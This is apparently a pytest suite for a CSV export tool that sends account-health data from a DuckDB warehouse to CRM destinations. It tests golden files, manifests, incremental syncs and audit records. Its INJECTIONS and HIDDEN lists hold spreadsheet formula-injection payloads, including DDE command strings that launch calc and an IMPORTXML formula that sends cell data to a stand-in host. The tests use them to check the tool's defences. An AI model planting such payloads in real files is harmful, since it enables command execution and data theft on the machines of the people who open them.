"""What is in the files, what is kept out of them, and what the warehouse remembers of it."""

import csv
import hashlib
import io
import json
import os
import shutil
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import duckdb
import pytest
import small_mart
from small_mart import DAY, change

from radar.core.errors import CheckError, InputError, RadarError, UsageError, WarehouseError
from radar.core.project import PROJECT
from radar.core.warehouse import connect
from radar.exports import writer
from radar.exports.files import write_for_a_person
from radar.exports.profiles import IGNORE, load_profiles, profile_names
from radar.exports.sync import acknowledge
from radar.exports.writer import export

GOLDEN = PROJECT / "exports" / "golden"
TOLD_OF_REMOVED = [profile.name for profile in load_profiles() if profile.removed != IGNORE]
NAMES = ["generic", "hubspot_companies"]
"""The destinations that are in use unless somebody says otherwise."""


def manifest_of(folder: Path) -> dict[str, Any]:
    content: dict[str, Any] = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    return content


def rows_of(folder: Path) -> list[dict[str, str]]:
    rows: list[dict[str, str]] = []
    for file in manifest_of(folder)["files"]:
        text = (folder / file["name"]).read_bytes().decode()
        rows += csv.DictReader(io.StringIO(text, newline=""), strict=True)
    return rows


def rejected_of(folder: Path) -> list[dict[str, str]]:
    text = (folder / "rejected.csv").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def recorded(warehouse: Path, sql: str) -> list[Any]:
    with duckdb.connect(str(warehouse), read_only=True) as con:
        return con.execute(sql).fetchall()


def content(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.mark.parametrize("name", profile_names())
def test_the_files_are_those_of_the_golden_folder(warehouse: Path, out: Path, name: str) -> None:
    """RADAR_UPDATE_GOLDEN=1 writes the golden folder again; read its diff before you keep it."""
    change(warehouse, small_mart.STORIES)
    compare_with_golden(export(warehouse, out, run_id="golden", as_of=DAY, profiles=[name])[0].folder, name)


@pytest.mark.parametrize("name", TOLD_OF_REMOVED)
def test_what_is_sent_for_a_row_that_left_is_that_of_the_golden_folder(
    warehouse: Path, out: Path, name: str
) -> None:
    """Nothing that was written is left standing, and the files in `undo/` put it back."""
    change(warehouse, small_mart.STORIES)
    export(warehouse, out, run_id="before", as_of=DAY, profiles=[name])
    acknowledge(warehouse, "before", by="me", profile=name)
    change(
        warehouse,
        "delete from marts.rpt_account_health where account_id = 'a-001'; "
        "delete from outbound.crm_contacts where contact_id = 'c-1'",
    )
    folder = export(warehouse, out, run_id="golden", as_of=DAY, profiles=[name])[0].folder
    compare_with_golden(folder, f"removed/{name}")


def compare_with_golden(folder: Path, name: str) -> None:
    golden = GOLDEN / name
    if os.environ.get("RADAR_UPDATE_GOLDEN") == "1":
        golden.mkdir(parents=True, exist_ok=True)
        shutil.rmtree(golden, ignore_errors=True)
        for file, data in content(folder).items():
            (golden / file).parent.mkdir(parents=True, exist_ok=True)
            (golden / file).write_bytes(data)
    assert content(folder) == content(golden)


def test_the_manifest_tells_what_the_folder_holds(warehouse: Path, out: Path) -> None:
    change(warehouse, small_mart.STORIES)
    for report in export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES):
        manifest = manifest_of(report.folder)
        assert (manifest["run_id"], manifest["as_of_date"]) == ("r1", "2026-03-13")
        told = [*manifest["files"], *manifest["undo"]["files"], manifest["rejected"]]
        assert set(content(report.folder)) == {"manifest.json", *(file["name"] for file in told)}
        for file in told:
            data = (report.folder / file["name"]).read_bytes()
            assert file["bytes"] == len(data)
            assert file["sha256"] == hashlib.sha256(data).hexdigest()
            lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
            assert (lines[0], len(lines) - 1) == (file["columns"], file["rows"])
        assert (report.rows, report.rejected_rows) == (4, manifest["rejected"]["accounts"]) == (4, 1)


def test_cells_are_what_a_machine_can_read(warehouse: Path, out: Path) -> None:
    change(warehouse, small_mart.STORIES)
    first, _, undecided, plain = rows_of(
        export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])[0].folder
    )
    assert first["account_name"] == 'Müller & Söhne, "Berlin"'
    assert (first["score"], first["arr_usd"], first["delta_7d"]) == ("80", "120000.5", "-12.5")
    assert first["delta_30d"] == "0.0000001", "not 1e-07"
    assert (first["days_to_renewal"], first["is_overridden"], first["as_of_date"]) == (
        "-3",
        "false",
        "2026-03-13",
    )
    assert undecided["reason_1"] == 'two\nlines, "quoted"'
    assert (undecided["decision"], undecided["next_action"]) == ("undecided", "A person decides")
    assert undecided["flags"] == "churn_risk, payment_risk"
    assert (plain["score"], plain["owner_id"], plain["flags"]) == ("100", "", "")


def test_lists_decimals_and_times_are_written_plainly(warehouse: Path, out: Path) -> None:
    small_mart.fill(warehouse, 1)
    change(
        warehouse,
        """
        alter table marts.rpt_account_health alter flags type varchar[] using ['churn_risk', 'payment_risk'];
        alter table marts.rpt_account_health alter arr_usd type decimal(18, 6) using 120.050000;
        alter table marts.rpt_account_health alter score type decimal(18, 6) using 80;
        alter table marts.rpt_account_health alter trend type timestamp using timestamp '2026-03-13 09:05:00';
        """,
    )
    (row,) = rows_of(export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])[0].folder)
    assert (row["flags"], row["arr_usd"], row["score"]) == ("churn_risk;payment_risk", "120.05", "80")
    assert row["trend"] == "2026-03-13T09:05:00Z"


STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u00a0-",
    "\u200b@",
    "\ufeff\u3000＝",
]


@pytest.mark.parametrize("start", STARTS)
def test_text_that_would_begin_a_formula_leaves_its_cell_empty_and_the_row_in_the_file(
    warehouse: Path, out: Path, start: str
) -> None:
    small_mart.fill(warehouse, 3)
    change(
        warehouse,
        f"update marts.rpt_account_health set next_action = '{start}x' where score = 1",
    )
    report = export(warehouse, out, run_id="r1", as_of=DAY, profiles=["hubspot_companies"])[0]
    rows = rows_of(report.folder)
    assert [row["radar_account_id"] for row in rows] == ["a000000", "a000001", "a000002"]
    assert (rows[0]["radar_next_action"], rows[0]["radar_score"]) == ("none", "1")
    (line,) = rejected_of(report.folder)
    assert (line["account"], line["name"]) == ("a000000", "Company 0")
    assert (line["column"], line["header"]) == ("next_action", "radar_next_action")
    assert "formula" in line["problem"]
    with connect(warehouse) as con:
        ((message,),) = con.execute("select message from audit.sync_runs").fetchall()
    assert message.startswith("1 row has one cell too few: next_action ")


@pytest.mark.parametrize("start", STARTS)
def test_a_key_that_would_begin_a_formula_refuses_the_row_and_the_run_says_so(
    warehouse: Path, out: Path, start: str
) -> None:
    small_mart.fill(warehouse, 3)
    change(warehouse, f"update marts.rpt_account_health set account_id = '{start}x' where score = 1")
    report = export(warehouse, out, run_id="r1", as_of=DAY, profiles=["hubspot_companies"])[0]
    assert [row["radar_account_id"] for row in rows_of(report.folder)] == ["a000001", "a000002"]
    assert report.not_in_it is not None
    assert report.not_in_it.startswith("1 row is not in it: account_id ")


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e300"])
def test_a_number_that_cannot_be_written_refuses_the_row(warehouse: Path, out: Path, value: str) -> None:
    small_mart.fill(warehouse, 3)
    change(warehouse, f"update marts.rpt_account_health set delta_7d = '{value}'::double where score = 1")
    report = export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])[0]
    assert (report.rows, report.rejected_rows) == (2, 1)
    assert rejected_of(report.folder)[0]["column"] == "delta_7d"
    assert rejected_of(report.folder)[0]["cell"].lstrip("'") == str(float(value))


def test_a_refused_account_is_tried_again_and_goes_out_when_it_is_corrected(
    warehouse: Path, out: Path
) -> None:
    small_mart.fill(warehouse, 3)
    change(
        warehouse,
        "update marts.rpt_account_health set account_name = chr(0) || 'x' where account_id = 'a000001'",
    )
    assert export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])[0].rejected_rows == 1
    second = export(warehouse, out, run_id="r2", as_of=DAY, profiles=["generic"])[0]
    assert (second.rows, second.rejected_rows) == (0, 1)
    change(warehouse, "update marts.rpt_account_health set account_name = 'x' where account_id = 'a000001'")
    third = export(warehouse, out, run_id="r3", as_of=DAY, profiles=["generic"])[0]
    assert [row["account_id"] for row in rows_of(third.folder)] == ["a000001"]


def test_only_accounts_that_changed_go_out_again(warehouse: Path, out: Path) -> None:
    small_mart.fill(warehouse, 9)
    assert [report.rows for report in export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)] == [
        9,
        9,
    ]
    acknowledge(warehouse, "r1", by="me")
    tomorrow = DAY + timedelta(days=1)
    small_mart.fill(warehouse, 9, day=tomorrow)
    change(warehouse, "update marts.rpt_account_health set score = 12 where account_id = 'a000004'")
    change(warehouse, "update marts.rpt_account_health set days_to_renewal = 39 where account_id = 'a000005'")
    generic, hubspot = export(warehouse, out, run_id="r2", as_of=tomorrow, profiles=NAMES)
    assert [row["account_id"] for row in rows_of(generic.folder)] == ["a000004", "a000005"]
    assert [row["radar_account_id"] for row in rows_of(hubspot.folder)] == ["a000004"], (
        "days to renewal unmapped"
    )
    assert rows_of(hubspot.folder)[0]["radar_as_of_date"] == "2026-03-14"
    assert manifest_of(hubspot.folder)["follows"] == "hubspot_companies/2026-03-13_r1"


def test_nothing_changed_is_a_header_alone(warehouse: Path, out: Path) -> None:
    small_mart.fill(warehouse, 9)
    export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
    acknowledge(warehouse, "r1", by="me")
    for report in export(warehouse, out, run_id="r2", as_of=DAY, profiles=NAMES):
        (file,) = manifest_of(report.folder)["files"]
        assert (report.rows, file["rows"], report.is_new) == (0, 0, True)
        assert (report.folder / file["name"]).read_bytes().count(b"\r\n") == 1


def test_an_account_that_changed_back_goes_out_both_times(warehouse: Path, out: Path) -> None:
    for run, score, rows in [("r1", 80, 1), ("r2", 70, 1), ("r3", 80, 1), ("r4", 80, 0)]:
        small_mart.fill(warehouse, 1)
        change(warehouse, f"update marts.rpt_account_health set score = {score}")
        assert export(warehouse, out, run_id=run, as_of=DAY, profiles=["generic"])[0].rows == rows, run


def test_a_run_that_is_repeated_writes_the_same_bytes_and_records_once(warehouse: Path, out: Path) -> None:
    small_mart.fill(warehouse, 9)
    export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
    acknowledge(warehouse, "r1", by="me")
    change(warehouse, "update marts.rpt_account_health set score = 12 where account_id = 'a000004'")
    first = {
        report.folder: content(report.folder)
        for report in export(warehouse, out, run_id="r2", as_of=DAY, profiles=NAMES)
    }
    state = "select * from audit.sync_state order by all"
    before = recorded(warehouse, state)
    for report in export(warehouse, out, run_id="r2", as_of=DAY, profiles=NAMES):
        assert content(report.folder) == first[report.folder]
        assert (report.rows, report.is_new) == (1, False)
    assert recorded(warehouse, state) == before
    assert recorded(warehouse, "select count(*) from audit.exports") == [(4,)]
    elsewhere = out.with_name("elsewhere")
    for report in export(warehouse, elsewhere, run_id="r2", as_of=DAY, profiles=NAMES):
        assert content(report.folder) == first[out / report.folder.relative_to(elsewhere)]


def test_a_run_that_died_before_it_was_recorded_goes_out_again(
    warehouse: Path, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    small_mart.fill(warehouse, 9)
    with monkeypatch.context() as patch:
        patch.setattr(writer, "_record", lambda *_, **__: os._exit(9))
        if (pid := os.fork()) == 0:
            export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])
        assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 9
    stands = content(out / "generic" / "2026-03-13_r1")
    assert recorded(warehouse, "select count(*) from audit.sync_state") == [(0,)], "the state did not move"
    again = export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])[0]
    assert (content(again.folder), again.is_new) == (stands, False)
    assert recorded(warehouse, "select count(*) from audit.sync_state") == [(9,)]
    assert recorded(warehouse, "select count(*) from audit.exports") == [(1,)]


def test_one_run_never_overwrites_what_it_exported(warehouse: Path, out: Path) -> None:
    small_mart.fill(warehouse, 9)
    (report,) = export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])
    before = content(report.folder)
    change(warehouse, "update marts.rpt_account_health set score = 12")
    with pytest.raises(WarehouseError, match=r"already exported other rows"):
        export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])
    assert content(report.folder) == before
    assert export(warehouse, out, run_id="r2", as_of=DAY, profiles=["generic"])[0].rows == 9


def test_the_audit_tells_each_set(warehouse: Path, out: Path) -> None:
    small_mart.fill(warehouse, 9)
    reports = export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
    told = recorded(
        warehouse,
        "select run_id, profile, as_of_date, folder, rows, bytes, sha256 from audit.exports order by 2",
    )
    for row, report in zip(told, reports, strict=True):
        assert row[:5] == ("r1", report.profile, DAY, f"{report.profile}/2026-03-13_r1", 9)
        assert row[5] == sum(file["bytes"] for file in manifest_of(report.folder)["files"])
        assert row[6] == hashlib.sha256((report.folder / "manifest.json").read_bytes()).hexdigest()


@pytest.mark.parametrize(("limit", "parts"), [({"rows_per_file": 4}, 3), ({"bytes_per_file": 1500}, None)])
def test_a_destination_that_takes_no_more_gets_parts(
    warehouse: Path, out: Path, monkeypatch: pytest.MonkeyPatch, limit: dict[str, int], parts: int | None
) -> None:
    small_mart.fill(warehouse, 10)
    (whole,) = writer.load_profiles(["generic"])
    limits = whole.limits.model_copy(update=limit)
    monkeypatch.setattr(writer, "load_profiles", lambda _: [whole.model_copy(update={"limits": limits})])
    (report,) = export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
    files = manifest_of(report.folder)["files"]
    assert [file["name"] for file in files] == list(report.files)
    assert len(files) > 1
    assert parts in (None, len(files))
    assert max(file["rows"] for file in files) <= limits.rows_per_file
    assert max(file["bytes"] for file in files) <= limits.bytes_per_file
    assert [row["account_id"] for row in rows_of(report.folder)] == [f"a{number:06d}" for number in range(10)]


@pytest.mark.parametrize("spoil", ["account_id = null", "account_id = ''", "account_id = 'a000000'"])
def test_empty_or_repeated_keys_stop_the_export(warehouse: Path, out: Path, spoil: str) -> None:
    small_mart.fill(warehouse, 3)
    change(warehouse, f"update marts.rpt_account_health set {spoil}")
    with pytest.raises(CheckError, match=r"column account_id: .* rows with the account_id"):
        export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
    assert not list(out.rglob("*.csv"))


def test_a_snapshot_of_another_day_is_not_sent_under_this_one(warehouse: Path, out: Path) -> None:
    small_mart.fill(warehouse, 3)
    with pytest.raises(CheckError, match=r"speaks for 2026-03-13.*2026-01-01\n.*--as-of 2026-03-13"):
        export(warehouse, out, run_id="r1", as_of=date(2026, 1, 1))


def test_a_missing_mart_and_a_bad_run_id_are_named(tmp_path: Path, out: Path) -> None:
    empty = tmp_path / "empty.duckdb"
    duckdb.connect(str(empty)).close()
    with pytest.raises(InputError, match=r"marts.rpt_account_health is not in the warehouse"):
        export(empty, out, run_id="r1", as_of=DAY, profiles=NAMES)
    with pytest.raises(UsageError, match=r"run id '../r1'"):
        export(empty, out, run_id="../r1", as_of=DAY, profiles=NAMES)


def test_a_folder_that_cannot_be_written_is_named_and_the_state_stays(warehouse: Path, out: Path) -> None:
    small_mart.fill(warehouse, 3)
    out.write_text("a file in the way")
    with pytest.raises(RadarError, match=r"What to do: ") as error:
        export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
    assert str(out) in str(error.value)
    assert recorded(warehouse, "select count(*) from audit.sync_state") == [(0,)]


def test_a_full_disk_is_named_and_leaves_nothing(
    warehouse: Path, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    small_mart.fill(warehouse, 3)
    real = os.fsync

    def full(descriptor: int) -> None:
        if os.path.isdir(f"/proc/self/fd/{descriptor}"):
            real(descriptor)
        else:
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(WarehouseError, match=r"the disk is full"):
        export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
    assert not [path for path in out.rglob("*") if path.is_file()]
    assert recorded(warehouse, "select count(*) from audit.exports") == [(0,)]


INJECTIONS = [
    *(
        f"{start}{rest}"
        for start in "=+-@"
        for rest in ("1+1", "cmd|' /C calc'!A0", "SUM(1,2)", 'HYPERLINK("x")')
    ),
    '=IMPORTXML("http://example.com/?v="&A1,"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
]
HIDDEN = [
    *(f"x{delimiter}=1+1" for delimiter in ",;|\t\n\r"),
    'x";=1+1;"',
    "x';=1+1",
    " =1+1",
    "\u00a0+1",
    '"=1+1"',
    "a\r\n@x",
]
"""What begins no cell for us, and may for a program that splits the line elsewhere."""


def test_a_machine_file_has_the_rows_of_injections_without_the_cell(warehouse: Path, out: Path) -> None:
    small_mart.fill(warehouse, len(INJECTIONS) + 1)
    for number, text in enumerate(INJECTIONS):
        change(
            warehouse,
            f"update marts.rpt_account_health set account_name = ? where account_id = 'a{number:06d}'",
            [text],
        )
    (report,) = export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])
    rows = rows_of(report.folder)
    assert len(rows) == len(INJECTIONS) + 1
    assert {row["account_name"] for row in rows[:-1]} == {""}
    lines = rejected_of(report.folder)
    assert [line["account"] for line in lines] == [f"a{number:06d}" for number in range(len(INJECTIONS))]
    assert {line["column"] for line in lines} == {"account_name"}
    assert all(line["cell"].startswith("'") and line["name"].startswith("'") for line in lines)


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("quotes", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
def test_no_cell_of_a_file_for_a_person_starts_live(tmp_path: Path, delimiter: str, quotes: Any) -> None:
    lines = [[text, f"before {text}", text] for text in [*INJECTIONS, *HIDDEN]]
    write_for_a_person(tmp_path / "file.csv", ["a", "b", "c"], lines)
    text = (tmp_path / "file.csv").read_bytes().decode("utf-8-sig")
    cells = [
        cell
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quotes)
        for cell in line
    ]
    live = [cell for cell in cells if cell.strip().strip('"').startswith(tuple("=+-@＝＋－＠"))]
    assert live == []
